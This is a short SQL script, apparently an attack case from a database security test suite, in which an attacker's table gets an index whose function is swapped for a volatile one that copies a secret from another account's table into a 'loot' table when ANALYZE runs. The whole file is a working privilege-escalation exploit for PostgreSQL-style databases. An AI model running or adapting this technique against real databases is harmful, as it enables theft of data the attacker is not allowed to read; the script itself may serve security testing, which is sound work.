-- Lets ANALYZE of an own table run a function of an index, which copies the secret.
-- wants: read
-- attack:
CREATE TABLE loot (secret text);
CREATE FUNCTION f_idx(text) RETURNS text IMMUTABLE LANGUAGE plpgsql AS $$BEGIN RETURN $1; END$$;
INSERT INTO mallory_own SELECT 100 + g, 'x' || g FROM generate_series(1, 10) g;
CREATE INDEX ON mallory_own (f_idx(v));
CREATE OR REPLACE FUNCTION f_idx(text) RETURNS text VOLATILE LANGUAGE plpgsql AS $$BEGIN
  INSERT INTO public.loot SELECT secret FROM public.vlt_account WHERE id = 1; RETURN $1; END$$;
ANALYZE mallory_own;
SELECT * FROM loot;
